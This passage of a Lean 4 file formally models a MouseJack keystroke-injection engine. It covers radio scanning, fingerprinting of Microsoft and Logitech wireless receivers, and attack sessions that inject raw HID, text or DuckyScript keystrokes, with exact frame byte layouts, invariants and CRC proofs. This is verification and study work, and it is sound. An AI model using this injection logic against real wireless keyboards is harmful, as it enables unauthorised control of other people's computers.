    rawLoop env target params.payload params.payloadLen params.payloadLen 0 s
  | AttackMode.STRING => stringLoop c env target params.text s
  | AttackMode.DUCKY =>
    match env.file with
    | none => s
    | some lines => duckyLoop c env params.targetIndex lines s

/-- Lines 446-535 of `attackTask`: from `acquireSpi` to `releaseSpi`. -/
def attackSession (c : TaskConsts) (env : AttackEnv) (params : AttackParams) (s : State) :
    State :=
  let target := targetAt s params.targetIndex
  let s := emit (RadioOp.acquireSpi env.acquireSpi) s
  if env.acquireSpi then
    let s := emit RadioOp.setDataRate s
    let s := emit (RadioOp.setPALevel 3) s
    let s := emit (RadioOp.setChannel target.channel) s
    let s := emit (RadioOp.setAddressWidth 5) s
    let s := emit (RadioOp.setTxMode target.address target.addrLen) s
    let s :=
      if isMicrosoft target then msSync target 6 { s with msSequence_ := 0 }
      else s
    let s := attackBody c env params target s
    let s := emit RadioOp.ceLow s
    emit RadioOp.releaseSpi s
  else s

/-- `MouseJack::attackTask(params)`. -/
def attackTask (c : TaskConsts) (env : AttackEnv) (params : AttackParams) (s : State) : State :=
  let s := attackSession c env params s
  { s with state_ := MjState.MJ_IDLE, taskHandle_ := none,
           notified := s.notified ++ [[c.MSG_NRF_ATTACK_COMPLETE, params.targetIndex]] }

/-! ## Engine interface (MouseJack.cpp 29-38, 108-141, 181-189, 345-437) -/

/-- `MouseJack::init()`; `present` is the result of `NrfModule::isPresent()`. -/
def init (k : MjConsts) (present : Bool) (s : State) : Bool × State :=
  if !present then (false, s)
  else (true, { clearTargets k s with state_ := MjState.MJ_IDLE })

/-- `MouseJack::startScan()`; `createOk` tells whether `xTaskCreatePinnedToCore`
returned `pdPASS`, in which case it stored `handle` in `taskHandle_`. -/
def startScan (present createOk : Bool) (handle : Nat) (s : State) : Bool × State :=
  if s.state_ ≠ MjState.MJ_IDLE then (false, s)
  else if !present then (false, s)
  else
    let s := { s with stopRequest_ := false, state_ := MjState.MJ_SCANNING }
    if createOk then
      (true, { s with taskHandle_ := some handle, created := s.created ++ [TaskSpec.scan] })
    else (false, { s with state_ := MjState.MJ_IDLE })

/-- `MouseJack::stopScan()`. -/
def stopScan (s : State) : State :=
  if s.state_ ≠ MjState.MJ_SCANNING then s else { s with stopRequest_ := true }

/-- The cleanup of `scanTask` (lines 181-189). -/
def scanTaskEnd (c : TaskConsts) (s : State) : State :=
  { s with state_ := MjState.MJ_IDLE, taskHandle_ := none,
           notified := s.notified ++ [[c.MSG_NRF_SCAN_COMPLETE, s.targetCount_]] }

/-- Lines 365-376, shared by the three operations that start an attack: reset the
stop flag, enter `MJ_ATTACKING`, create the task, roll back when that fails. -/
def launchAttack (createOk : Bool) (handle : Nat) (params : AttackParams) (s : State) :
    Bool × State :=
  let s := { s with stopRequest_ := false, state_ := MjState.MJ_ATTACKING }
  if createOk then
    (true, { s with taskHandle_ := some handle,
                    created := s.created ++ [TaskSpec.attack params] })
  else (false, { s with state_ := MjState.MJ_IDLE })

/-- `MouseJack::startAttack(targetIndex, hidPayload, payloadLen)`. -/
def startAttack (createOk : Bool) (handle : Nat) (targetIndex : Nat) (hidPayload : List Nat)
    (payloadLen : Nat) (s : State) : Bool × State :=
  if s.state_ ≠ MjState.MJ_IDLE ∧ s.state_ ≠ MjState.MJ_FOUND then (false, s)
  else if targetIndex ≥ s.targetCount_ ∨ (targetAt s targetIndex).active = false then (false, s)
  else
    launchAttack createOk handle
      { targetIndex := targetIndex, payload := hidPayload.take payloadLen,
        payloadLen := payloadLen, text := [], filePath := [], mode := AttackMode.RAW_HID } s

/-- `MouseJack::injectString(targetIndex, text)`. -/
def injectString (createOk : Bool) (handle : Nat) (targetIndex : Nat) (text : List Nat)
    (s : State) : Bool × State :=
  if s.state_ ≠ MjState.MJ_IDLE ∧ s.state_ ≠ MjState.MJ_FOUND then (false, s)
  else if targetIndex ≥ s.targetCount_ then (false, s)
  else
    launchAttack createOk handle
      { targetIndex := targetIndex, payload := [], payloadLen := 0, text := text,
        filePath := [], mode := AttackMode.STRING } s

/-- `MouseJack::executeDuckyScript(targetIndex, filePath)`. -/
def executeDuckyScript (createOk : Bool) (handle : Nat) (targetIndex : Nat)
    (filePath : List Nat) (s : State) : Bool × State :=
  if s.state_ ≠ MjState.MJ_IDLE ∧ s.state_ ≠ MjState.MJ_FOUND then (false, s)
  else if targetIndex ≥ s.targetCount_ then (false, s)
  else
    launchAttack createOk handle
      { targetIndex := targetIndex, payload := [], payloadLen := 0, text := [],
        filePath := filePath, mode := AttackMode.DUCKY } s

/-- `MouseJack::stopAttack()`. -/
def stopAttack (s : State) : State :=
  if s.state_ ≠ MjState.MJ_ATTACKING then s else { s with stopRequest_ := true }

/-- A step of the engine: a call of its interface, or a step of one of its tasks
(the scan task handing one capture to `fingerprint`, the scan task ending, the attack
task running). -/
inductive EngineOp where
  | init (present : Bool)
  | startScan (present createOk : Bool) (handle : Nat)
  | stopScan
  | capture (rawBuf : List Nat) (size channel : Nat)
  | scanEnd
  | startAttack (createOk : Bool) (handle targetIndex : Nat) (hidPayload : List Nat)
      (payloadLen : Nat)
  | injectString (createOk : Bool) (handle targetIndex : Nat) (text : List Nat)
  | executeDuckyScript (createOk : Bool) (handle targetIndex : Nat) (filePath : List Nat)
  | stopAttack
  | attackRun (env : AttackEnv) (params : AttackParams)

/-- The state after one step of the engine. -/
def applyEngineOp (k : MjConsts) (c : TaskConsts) (s : State) : EngineOp → State
  | EngineOp.init present => (init k present s).2
  | EngineOp.startScan present createOk handle => (startScan present createOk handle s).2
  | EngineOp.stopScan => stopScan s
  | EngineOp.capture rawBuf size channel => fingerprint k rawBuf size channel s
  | EngineOp.scanEnd => scanTaskEnd c s
  | EngineOp.startAttack createOk handle targetIndex hidPayload payloadLen =>
    (startAttack createOk handle targetIndex hidPayload payloadLen s).2
  | EngineOp.injectString createOk handle targetIndex text =>
    (injectString createOk handle targetIndex text s).2
  | EngineOp.executeDuckyScript createOk handle targetIndex filePath =>
    (executeDuckyScript createOk handle targetIndex filePath s).2
  | EngineOp.stopAttack => stopAttack s
  | EngineOp.attackRun env params => attackTask c env params s

/-- The engine state reached from the static initialization by a sequence of steps. -/
def runEngine (k : MjConsts) (c : TaskConsts) (ops : List EngineOp) : State :=
  ops.foldl (applyEngineOp k c) (initState k)

/-- The frames handed to `NrfModule::transmit` in a radio trace, in order. -/
def transmitted : List RadioOp → List (List Nat)
  | [] => []
  | RadioOp.transmit frame :: rest => frame :: transmitted rest
  | _ :: rest => transmitted rest

/-- Bytes `0 .. 17` of a Microsoft frame as the specification lays them out: frame type
0x08, three zero bytes, the sequence value little-endian, the flag 67, the modifier, a
zero byte, the keycode and eight zero bytes. -/
def msFieldsSpec (meta hid seq : Nat) : List Nat :=
  [0x08, 0, 0, 0, seq % 256, seq / 256 % 256, 67, meta, 0, hid, 0, 0, 0, 0, 0, 0, 0, 0]

/-- The frame with the address XOR of an encrypted target undone. -/
def msPlain (target : MjTarget) (frame : List Nat) : List Nat :=
  if target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT then msCrypt frame 19 target.address
  else frame

/-- Bytes `0 .. 8` of a Logitech frame as the specification lays them out: 0x00, 0xC1,
the modifier, then the first `min(n, 6)` keys followed by zeros. -/
def logFieldsSpec (meta : Nat) (keys : List Nat) : List Nat :=
  [0x00, 0xC1, meta] ++ (keys.take 6 ++ List.replicate (6 - min keys.length 6) 0)

/-- What makes a property of the state survive the attack loops: it survives
`msTransmit` (called for a Microsoft target only), `logTransmit` (called for the
other targets only), a `vTaskDelay` and a read of the stop flag. -/
structure StepInv (env : AttackEnv) (target : MjTarget) (P : State → Prop) : Prop where
  ms : isMicrosoft target = true →
    ∀ (m h : Nat) (s : State), P s → P (msTransmit target m h s)
  log : isMicrosoft target = false →
    ∀ (m : Nat) (keys : List Nat) (n : Nat) (s : State), P s → P (logTransmit target m keys n s)
  delay : ∀ (n : Nat) (s : State), P s → P (emit (RadioOp.vTaskDelay n) s)
  stop : ∀ s : State, P s → P (readStop env s).2

/-- The sequence numbering of a session: the frames transmitted after `pre` carry, with
the address XOR undone, their own rank modulo 65536 little-endian in bytes 4 and 5, and
`msSequence_` is the rank of the next frame. -/
def SeqInv (target : MjTarget) (pre : List (List Nat)) (s : State) : Prop :=
  ∃ fs : List (List Nat), transmitted s.radio = pre ++ fs ∧
    s.msSequence_ = fs.length % 65536 ∧
    ∀ j, j < fs.length →
      (msPlain target (fs.getD j [])).getD 4 0 = j % 65536 % 256 ∧
      (msPlain target (fs.getD j [])).getD 5 0 = j % 65536 / 256

/-- Every registry slot below `targetCount_` holds an active entry, and the array has
`MJ_MAX_TARGETS` slots. -/
def ActiveBelow (k : MjConsts) (s : State) : Prop :=
  s.targets_.length = k.MJ_MAX_TARGETS ∧
  ∀ i, i < s.targetCount_ → (targetAt s i).active = true

/-- XOR of the bytes of a list. -/
def xorAll (l : List Nat) : Nat := l.foldl (fun a b => a ^^^ b) 0

/-- Sample tables for evaluating the model on concrete inputs: `a` and `r` are mapped by
`asciiToHid`, and `DUCKY_KEYS` has the rows ENTER, GUI, CTRL, ALT and DELETE. -/
def sampleTaskConsts : TaskConsts :=
  { MSG_NRF_SCAN_COMPLETE := 0xD1, MSG_NRF_ATTACK_COMPLETE := 0xD2,
    HID_MOD_NONE := 0, HID_KEY_ENTER := 0x28,
    asciiToHid := fun ch =>
      if ch = 97 then some { modifier := 0, keycode := 4 }
      else if ch = 114 then some { modifier := 0, keycode := 21 }
      else none,
    DUCKY_KEYS :=
      [([69, 78, 84, 69, 82], 0, 0x28), ([71, 85, 73], 8, 0), ([67, 84, 82, 76], 1, 0),
       ([65, 76, 84], 4, 0), ([68, 69, 76, 69, 84, 69], 0, 0x4C)] }

/-- A sample environment: the radio lock is free, nobody asks to stop, no script file. -/
def sampleEnv : AttackEnv := { acquireSpi := true, file := none, stopAt := fun _ => false }

/-- A registry with a plain Microsoft target at index 0 and a Logitech target at index 1. -/
def sampleTargets : State :=
  runOps sampleConsts (initState sampleConsts)
    [RegistryOp.add [1, 2, 3, 4, 5] 5 10 MjDeviceType.MJ_DEVICE_MICROSOFT,
     RegistryOp.add [6, 7, 8, 9, 10] 5 20 MjDeviceType.MJ_DEVICE_LOGITECH]

/-! ## Background contexts -/

/-- The engine together with the background contexts that exist: a context is born when
`xTaskCreatePinnedToCore` returns `pdPASS` and ends at the `vTaskDelete(nullptr)` that
closes its task function. `live` holds the contexts that have not yet executed the
`state_ = MJ_IDLE` of their cleanup (lines 182 and 539), each with a flag telling whether
its work before the cleanup is done; `exiting` holds the contexts that have executed it,
each with the number of cleanup statements executed since: 0 when `taskHandle_ = nullptr`
is next, 1 when the notification is next, 2 when `vTaskDelete(nullptr)` is next. -/
structure Sys where
  st : State
  live : List (TaskSpec × Bool)
  exiting : List (TaskSpec × Nat)
  deriving DecidableEq, Repr

/-- A step of the engine with its contexts: a call of the interface, or a step of one
context in its task function. The scan context hands captures to `fingerprint`; the
attack context runs lines 446-535; each context then executes the statements of its
cleanup one by one, and calls of the interface can come in between. -/
inductive SysOp where
  | init (present : Bool)
  | startScan (present createOk : Bool) (handle : Nat)
  | stopScan
  | startAttack (createOk : Bool) (handle targetIndex : Nat) (hidPayload : List Nat)
      (payloadLen : Nat)
  | injectString (createOk : Bool) (handle targetIndex : Nat) (text : List Nat)
  | executeDuckyScript (createOk : Bool) (handle targetIndex : Nat) (filePath : List Nat)
  | stopAttack
  | capture (rawBuf : List Nat) (size channel : Nat)
  | attackWork (env : AttackEnv) (params : AttackParams)
  | setIdle (t : TaskSpec)
  | clearHandle (t : TaskSpec)
  | notify (t : TaskSpec)
  | taskDelete (t : TaskSpec)

/-- The flag with which a context reaches its cleanup: the attack context has run
lines 446-535 once; the sweep of the scan context is made of `capture` steps. -/
def workDone : TaskSpec → Bool
  | TaskSpec.scan => false
  | TaskSpec.attack _ => true

/-- The notification that closes a task function (lines 186-188 and 543-545);
`targetCount_` is read when the notification is built. -/
def completion (c : TaskConsts) (s : State) : TaskSpec → List Nat
  | TaskSpec.scan => [c.MSG_NRF_SCAN_COMPLETE, s.targetCount_]
  | TaskSpec.attack params => [c.MSG_NRF_ATTACK_COMPLETE, params.targetIndex]

/-- What a step does to the static members. -/
def sysState (k : MjConsts) (c : TaskConsts) (s : State) : SysOp → State
  | SysOp.init present => (init k present s).2
  | SysOp.startScan present createOk handle => (startScan present createOk handle s).2
  | SysOp.stopScan => stopScan s
  | SysOp.startAttack createOk handle targetIndex hidPayload payloadLen =>
    (startAttack createOk handle targetIndex hidPayload payloadLen s).2
  | SysOp.injectString createOk handle targetIndex text =>
    (injectString createOk handle targetIndex text s).2
  | SysOp.executeDuckyScript createOk handle targetIndex filePath =>
    (executeDuckyScript createOk handle targetIndex filePath s).2
  | SysOp.stopAttack => stopAttack s
  | SysOp.capture rawBuf size channel => fingerprint k rawBuf size channel s
  | SysOp.attackWork env params => attackSession c env params s
  | SysOp.setIdle _ => { s with state_ := MjState.MJ_IDLE }
  | SysOp.clearHandle _ => { s with taskHandle_ := none }
  | SysOp.notify t => { s with notified := s.notified ++ [completion c s t] }
  | SysOp.taskDelete _ => s

/-- A step of a context can only be taken by a context that exists and stands at that
step of its task function. -/
def taskEnabled (y : Sys) : SysOp → Bool
  | SysOp.capture _ _ _ => y.live.contains (TaskSpec.scan, false)
  | SysOp.attackWork _ params => y.live.contains (TaskSpec.attack params, false)
  | SysOp.setIdle t => y.live.contains (t, workDone t)
  | SysOp.clearHandle t => y.exiting.contains (t, 0)
  | SysOp.notify t => y.exiting.contains (t, 1)
  | SysOp.taskDelete t => y.exiting.contains (t, 2)
  | _ => true

/-- One step of the engine with its contexts: the contexts created by a call are those
it logged in `created`; a step of a context moves that context on in its task function,
and `vTaskDelete` removes it. -/
def sysStep (k : MjConsts) (c : TaskConsts) (y : Sys) (op : SysOp) : Sys :=
  match op with
  | SysOp.attackWork _ params =>
    { st := sysState k c y.st op,
      live := y.live.erase (TaskSpec.attack params, false) ++ [(TaskSpec.attack params, true)],
      exiting := y.exiting }
  | SysOp.setIdle t =>
    { st := sysState k c y.st op,
      live := y.live.erase (t, workDone t),
      exiting := y.exiting ++ [(t, 0)] }
  | SysOp.clearHandle t =>
    { st := sysState k c y.st op, live := y.live,
      exiting := y.exiting.erase (t, 0) ++ [(t, 1)] }
  | SysOp.notify t =>
    { st := sysState k c y.st op, live := y.live,
      exiting := y.exiting.erase (t, 1) ++ [(t, 2)] }
  | SysOp.taskDelete t =>
    { st := sysState k c y.st op, live := y.live, exiting := y.exiting.erase (t, 2) }
  | _ =>
    { st := sysState k c y.st op,
      live := y.live ++
        ((sysState k c y.st op).created.drop y.st.created.length).map (fun t => (t, false)),
      exiting := y.exiting }

/-- The engine and its contexts after a sequence of steps from the static initialization,
when no context exists. -/
def runSys (k : MjConsts) (c : TaskConsts) (ops : List SysOp) : Sys :=
  ops.foldl (sysStep k c) { st := initState k, live := [], exiting := [] }

/-- Every step of a context in the run is taken by a context that exists at that point
and stands at that step. -/
def tasksExist (k : MjConsts) (c : TaskConsts) : Sys → List SysOp → Bool
  | _, [] => true
  | y, op :: rest => taskEnabled y op && tasksExist k c (sysStep k c y op) rest

/-- A call of `init()` that finds the module present, and so clears the registry and
resets `state_`. -/
def resets : EngineOp → Bool
  | EngineOp.init present => present
  | _ => false

/-- A call of `init()` that finds the module present, as a step of `Sys`. -/
def sysResets : SysOp → Bool
  | SysOp.init present => present
  | _ => false

/-- Every successful `init()` of the run is called while `state_` is `MJ_IDLE`. -/
def initWhenIdle (k : MjConsts) (c : TaskConsts) : Sys → List SysOp → Bool
  | _, [] => true
  | y, op :: rest =>
    (!sysResets op || decide (y.st.state_ = MjState.MJ_IDLE)) &&
      initWhenIdle k c (sysStep k c y op) rest

/-- The contexts that have not reached the `state_ = MJ_IDLE` of their cleanup match
`state_`: none when idle, the scan task when scanning, one attack task when attacking. -/
def ContextInv (y : Sys) : Prop :=
  (y.live = [] ∧ y.st.state_ = MjState.MJ_IDLE) ∨
  (y.live = [(TaskSpec.scan, false)] ∧ y.st.state_ = MjState.MJ_SCANNING) ∨
  (∃ p b, y.live = [(TaskSpec.attack p, b)] ∧ y.st.state_ = MjState.MJ_ATTACKING)

/-- State `t` agrees with `s` on everything but the radio trace, the sequence counter and
the stop flag with its read count. -/
def Untouched (s t : State) : Prop :=
  t.state_ = s.state_ ∧ t.targets_ = s.targets_ ∧ t.targetCount_ = s.targetCount_ ∧
  t.taskHandle_ = s.taskHandle_ ∧ t.notified = s.notified ∧ t.created = s.created

/-- State `t` keeps the registry entries of `s`: the count is not lower, and every slot
below the count of `s` has the same active flag, address, address length and device type
(the channel may have been updated). -/
def Kept (s t : State) : Prop :=
  s.targetCount_ ≤ t.targetCount_ ∧
  ∀ j, j < s.targetCount_ →
    (targetAt t j).active = (targetAt s j).active ∧
    (targetAt t j).address = (targetAt s j).address ∧
    (targetAt t j).addrLen = (targetAt s j).addrLen ∧
    (targetAt t j).type = (targetAt s j).type

/-! ## Keystrokes of the attack loops -/

/-- The body of the `RAW_HID` loop for the pair `(meta, hid)` (lines 471-479): the
keystroke and the delay of 10 ms. -/
def rawKey (target : MjTarget) (s : State) (pair : Nat × Nat) : State :=
  let s :=
    if isMicrosoft target then msTransmit target pair.1 pair.2 s
    else if target.type = MjDeviceType.MJ_DEVICE_LOGITECH then
      logTransmit target pair.1 [pair.2] 1 s
    else s
  emit (RadioOp.vTaskDelay 10) s

/-- The body of the `STRING` loop for a character with entry `entry` (lines 497-509):
the keystroke, the key release and the delay of 5 ms. -/
def stringKey (target : MjTarget) (s : State) (entry : HidKeyEntry) : State :=
  let s :=
    if isMicrosoft target then msTransmit target entry.modifier entry.keycode s
    else if target.type = MjDeviceType.MJ_DEVICE_LOGITECH then
      logTransmit target entry.modifier [entry.keycode] 1 s
    else s
  let s :=
    if isMicrosoft target then msTransmit target 0 0 s
    else logTransmit target 0 [0] 1 s
  emit (RadioOp.vTaskDelay 5) s

/-! ## Indices read by the fingerprinting path (MouseJack.cpp 214-325) -/

/-- The indices of `buf` read by the shift loop of the second pass (lines 237-242), in
the order of the reads: `x` runs from `size - 1` down to 0. -/
def shiftReads (size : Nat) : List Nat :=
  (List.range size).reverse.flatMap (fun x => if x > 0 then [x - 1, x] else [x])

/-- The indices of `buf` read by one pass of the `offset` loop once the buffer is aligned
(lines 249-282): `buf[5]`; after the length check the three bytes of `crcGiven`, the
bytes of the CRC loop and `buf[6 + payloadLength]`; after the CRC check the five bytes
of the address and, for each payload byte, `buf[6 + x]` and `buf[7 + x]`. -/
def trialReads (buf : List Nat) (size : Nat) : List Nat :=
  let payloadLength := buf.getD 5 0 >>> 2
  [5] ++
    (if payloadLength = 0 ∨ (payloadLength : Int) > (size : Int) - 9 then []
     else
      [6 + payloadLength, 7 + payloadLength, 8 + payloadLength] ++
        List.range (6 + payloadLength) ++ [6 + payloadLength] ++
        (if crcCalc buf payloadLength ≠ crcGiven buf payloadLength then []
         else List.range 5 ++ (List.range payloadLength).flatMap (fun x => [6 + x, 7 + x])))

/-- The indices of the working buffer `buf` read by `fingerprint`: the first pass, and
when it does not validate the shift loop and the second pass. -/
def fingerprintReads (rawBuf : List Nat) (size : Nat) : List Nat :=
  if size < 10 then []
  else
    let size := if size > 37 then 37 else size
    trialReads (alignedBuf rawBuf size 0) size ++
      (if (fingerprintTrial (alignedBuf rawBuf size 0) size).isSome then []
       else shiftReads size ++ trialReads (alignedBuf rawBuf size 1) size)

/-- The indices of `payload` read by `fingerprintPayload` (lines 295-323), with the
short-circuit evaluation of `&&` and `||`. -/
def payloadReads (payload : List Nat) (size : Nat) : List Nat :=
  let micro : List Nat × Bool :=
    if size = 19 then
      if payload.getD 0 0 = 0x08 then
        if payload.getD 6 0 = 0x40 then ([0, 6], true)
        else ([0, 6, 0], decide (payload.getD 0 0 = 0x0A))
      else ([0, 0], decide (payload.getD 0 0 = 0x0A))
    else ([], false)
  if micro.2 then micro.1
  else
    micro.1 ++ [0] ++
      (if payload.getD 0 0 = 0x00 then
        (if size = 10 then (if payload.getD 1 0 = 0xC2 then [1] else [1, 1]) else []) ++
          (if size = 22 then [1] else []) ++ (if size = 5 then [1] else [])
       else [])

/-! ## Scan task (MouseJack.cpp 143-192) -/

/-- What the scan task gets from outside, each indexed by the number of radio calls
and delays made so far: the result of `NrfModule::acquireSpi()`, the bytes delivered by
`NrfModule::receive` (their number is `rxLen`); and, as in `AttackEnv`, `stopAt n` tells
whether `stopScan()` has run before the task reads `stopRequest_` for the `n`-th time. -/
structure ScanEnv where
  acquireSpi : Nat → Bool
  receive : Nat → List Nat
  stopAt : Nat → Bool

/-- One read of the volatile `stopRequest_` by the scan task (see `readStop`). -/
def scanStop (env : ScanEnv) (s : State) : Bool × State :=
  (s.stopRequest_ || env.stopAt s.stopReads,
   { s with stopRequest_ := s.stopRequest_ || env.stopAt s.stopReads,
            stopReads := s.stopReads + 1 })

/-- The `tries` loop of lines 160-169 on channel `ch`, with `n` iterations left. -/
def scanTries (k : MjConsts) (env : ScanEnv) (ch : Nat) : Nat → State → State
  | 0, s => s
  | n + 1, s =>
    if (scanStop env s).1 then (scanStop env s).2
    else
      let s := (scanStop env s).2
      let rx := env.receive s.radio.length
      let s := emit (RadioOp.receive rx.length) s
      let s := if rx.length > 0 then fingerprint k rx rx.length ch s else s
      let s := emit (RadioOp.delayMicroseconds 200) s
      scanTries k env ch n s

/-- The channel loop of lines 156-170 at channel `ch`, with `fuel = 85 - ch` iterations
left. -/
def scanChannels (k : MjConsts) (env : ScanEnv) : Nat → Nat → State → State
  | 0, _, s => s
  | fuel + 1, ch, s =>
    if (scanStop env s).1 then (scanStop env s).2
    else
      let s := (scanStop env s).2
      let s := emit (RadioOp.setChannel ch) s
      let s := scanTries k env ch 3 s
      scanChannels k env fuel (ch + 1) s

/-- The body of the `while (!stopRequest_)` loop (lines 146-176). -/
def scanPass (k : MjConsts) (env : ScanEnv) (s : State) : State :=
  let ok := env.acquireSpi s.radio.length
  let s := emit (RadioOp.acquireSpi ok) s
  if !ok then emit (RadioOp.vTaskDelay 100) s
  else
    let s := emit RadioOp.setDataRate s
    let s := emit RadioOp.setPromiscuousMode s
    let s := scanChannels k env 83 2 s
    let s := emit RadioOp.ceLow s
    let s := emit RadioOp.releaseSpi s
    emit (RadioOp.vTaskDelay 50) s

/-- `MouseJack::scanTask`: at most `fuel` passes of the `while` loop, then the cleanup;
`none` when the stop flag was not seen within `fuel` passes. -/
def scanTask (k : MjConsts) (c : TaskConsts) (env : ScanEnv) : Nat → State → Option State
  | 0, _ => none
  | fuel + 1, s =>
    if (scanStop env s).1 then some (scanTaskEnd c (scanStop env s).2)
    else scanTask k c env fuel (scanPass k env (scanStop env s).2)

/-! ## The lock discipline of a radio trace -/

/-- The radio primitives: everything in a trace but the lock calls and the delays. -/
def isPrimitive : RadioOp → Bool
  | RadioOp.setDataRate => true
  | RadioOp.setPALevel _ => true
  | RadioOp.setChannel _ => true
  | RadioOp.setAddressWidth _ => true
  | RadioOp.setTxMode _ _ => true
  | RadioOp.setPromiscuousMode => true
  | RadioOp.receive _ => true
  | RadioOp.transmit _ => true
  | RadioOp.ceLow => true
  | _ => false

/-- Replay of a trace against the lock: `held` tells whether the lock is held. The
result is `none` when a primitive or a release occurs while the lock is not held, or an
acquisition while it is held; otherwise it tells whether the lock is held at the end. -/
def lockTrace : Bool → List RadioOp → Option Bool
  | held, [] => some held
  | held, RadioOp.acquireSpi ok :: rest => if held then none else lockTrace ok rest
  | held, RadioOp.releaseSpi :: rest => if held then lockTrace false rest else none
  | held, op :: rest => if isPrimitive op && !held then none else lockTrace held rest

/-- The calls that state `s` has added to the trace `pre` respect the lock, and leave it
held or not as `held` tells. -/
def LockState (pre : List RadioOp) (held : Bool) (s : State) : Prop :=
  ∃ ops : List RadioOp, s.radio = pre ++ ops ∧ lockTrace false ops = some held

/-! ## Registry entries made by the scan -/

/-- Every active entry has a 5-byte address, a known device type and a channel of the
sweep. -/
def EntryInv (s : State) : Prop :=
  ∀ i, (targetAt s i).active = true →
    (targetAt s i).addrLen = 5 ∧ (targetAt s i).type ≠ MjDeviceType.MJ_DEVICE_UNKNOWN ∧
    2 ≤ (targetAt s i).channel ∧ (targetAt s i).channel ≤ 84

/-- A call that makes a new entry: `addTarget` of an address that `findTarget` does not
find, returning an index. -/
def accepts (k : MjConsts) (s : State) : RegistryOp → Bool
  | RegistryOp.add addr addrLen channel type =>
    decide (findTarget s addr addrLen = -1) &&
      decide ((addTarget k addr addrLen channel type s).1 ≥ 0)
  | RegistryOp.clear => false

/-- The number of calls of a run that make a new entry. -/
def acceptedCount (k : MjConsts) : State → List RegistryOp → Nat
  | _, [] => 0
  | s, op :: rest => (if accepts k s op then 1 else 0) + acceptedCount k (applyOp k s op) rest

/-- A call of `addTarget`, not of `clearTargets`. -/
def isAdd : RegistryOp → Bool
  | RegistryOp.add _ _ _ _ => true
  | RegistryOp.clear => false

/-- A 19-byte capture holding a valid Enhanced ShockBurst frame with address
`A1 B2 C3 D4 E5` and the 10-byte payload `00 C2 00 .. 00` (a Logitech frame). -/
def sampleCapture : List Nat :=
  [161, 178, 195, 212, 229, 40, 0, 97, 0, 0, 0, 0, 0, 0, 0, 0, 71, 7, 0]

/-- A run of the engine: initialization, a scan that captures `sampleCapture` on channel 5
and ends. -/
def sampleOps : List EngineOp :=
  [EngineOp.init true, EngineOp.startScan true true 1,
   EngineOp.capture sampleCapture 19 5, EngineOp.scanEnd]

/-! ## Arithmetic of the CRC register -/

theorem xor_mod_two_pow_aux (a b n : Nat) : (a ^^^ b) % 2 ^ n = (a % 2 ^ n) ^^^ (b % 2 ^ n) := by
  apply Nat.eq_of_testBit_eq
  intro i
  simp only [Nat.testBit_mod_two_pow, Nat.testBit_xor]
  cases decide (i < n) <;> simp

theorem and_8000_iff (c : Nat) : c &&& 0x8000 = 0x8000 ↔ c / 32768 % 2 = 1 := by
  have h := Nat.and_two_pow c 15
  have h2 := @Nat.testBit_to_div_mod 15 c
  norm_num at h h2
  rw [h]
  cases hb : c.testBit 15 <;> simp [hb] at h2 ⊢ <;> omega

theorem crcShift_lt (c : Nat) : crcShift c < 65536 := by
  unfold crcShift
  split <;> exact Nat.mod_lt _ (by norm_num)

/-- The shift step as "shifted register XOR conditional polynomial". -/
theorem crcShift_eq (c : Nat) :
    crcShift c = (2 * c % 65536) ^^^ (if c / 32768 % 2 = 1 then 0x1021 else 0) := by
  unfold crcShift
  have hs : c <<< 1 = 2 * c := by rw [Nat.shiftLeft_eq]; ring
  have hx := xor_mod_two_pow_aux (2 * c) 0x1021 16
  norm_num at hx
  rw [hs]
  by_cases h : c / 32768 % 2 = 1
  · have h' := (and_8000_iff c).2 h
    rw [if_pos h', if_pos h, hx]
  · have h' : ¬ (c &&& 0x8000 = 0x8000) := fun hh => h ((and_8000_iff c).1 hh)
    rw [if_neg h', if_neg h, Nat.xor_zero]

theorem crcSpecBit_eq (c : Nat) (b : Bool) :
    crcSpecBit c b = (2 * c % 65536) ^^^ (if xor (decide (c / 32768 % 2 = 1)) b then 0x1021 else 0) := by
  unfold crcSpecBit
  simp only
  split <;> simp

theorem crcShift_eq_specBit (c : Nat) : crcShift c = crcSpecBit c false := by
  rw [crcShift_eq, crcSpecBit_eq]
  simp

theorem two_mul_xor (x y : Nat) : 2 * (x ^^^ y) = (2 * x) ^^^ (2 * y) := by
  apply Nat.eq_of_testBit_eq
  intro i
  cases i with
  | zero => simp [Nat.testBit_zero]
  | succ i => simp [Nat.testBit_succ, Nat.xor_div_two]

theorem bit15_xor (x y : Nat) :
    decide ((x ^^^ y) / 32768 % 2 = 1) = xor (decide (x / 32768 % 2 = 1)) (decide (y / 32768 % 2 = 1)) := by
  have h := Nat.testBit_xor x y 15
  simp only [Nat.testBit_to_div_mod] at h
  norm_num at h
  simpa using h

theorem xor_cancel_both (a b p : Nat) : (a ^^^ p) ^^^ (b ^^^ p) = a ^^^ b := by
  apply Nat.eq_of_testBit_eq
  intro i
  simp only [Nat.testBit_xor]
  cases a.testBit i <;> cases b.testBit i <;> cases p.testBit i <;> rfl

theorem xor_right_swap (a b p : Nat) : (a ^^^ b) ^^^ p = (a ^^^ p) ^^^ b := by
  rw [Nat.xor_assoc, Nat.xor_comm b p, ← Nat.xor_assoc]

/-- The shift step is linear over XOR. -/
theorem crcShift_xor (x y : Nat) : crcShift (x ^^^ y) = crcShift x ^^^ crcShift y := by
  simp only [crcShift_eq]
  have h1 : 2 * (x ^^^ y) % 65536 = (2 * x % 65536) ^^^ (2 * y % 65536) := by
    rw [two_mul_xor]
    exact xor_mod_two_pow_aux (2 * x) (2 * y) 16
  have h2 := bit15_xor x y
  rw [h1]
  by_cases hx : x / 32768 % 2 = 1 <;> by_cases hy : y / 32768 % 2 = 1 <;>
    simp [hx, hy] at h2 <;> simp [hx, hy, h2]
  · exact (xor_cancel_both _ _ _).symm
  · exact xor_right_swap _ _ _
  · exact Nat.xor_assoc _ _ _


/-- A message bit enters the register through bit 15. -/
theorem crcSpecBit_eq_shift (c : Nat) (b : Bool) :
    crcSpecBit c b = crcShift (c ^^^ (b.toNat * 32768)) := by
  cases b with
  | false => simp [crcShift_eq_specBit]
  | true =>
    rw [crcShift_xor, crcShift_eq c, crcSpecBit_eq]
    have : crcShift (true.toNat * 32768) = 0x1021 := by decide
    rw [this]
    by_cases h : c / 32768 % 2 = 1 <;> simp [h, Nat.xor_assoc]

theorem crcSpecBit_lt (c : Nat) (b : Bool) : crcSpecBit c b < 65536 := by
  rw [crcSpecBit_eq_shift]; exact crcShift_lt _

theorem crcSpecBit_xor (c d : Nat) (b : Bool) :
    crcSpecBit (c ^^^ d) b = crcShift c ^^^ crcSpecBit d b := by
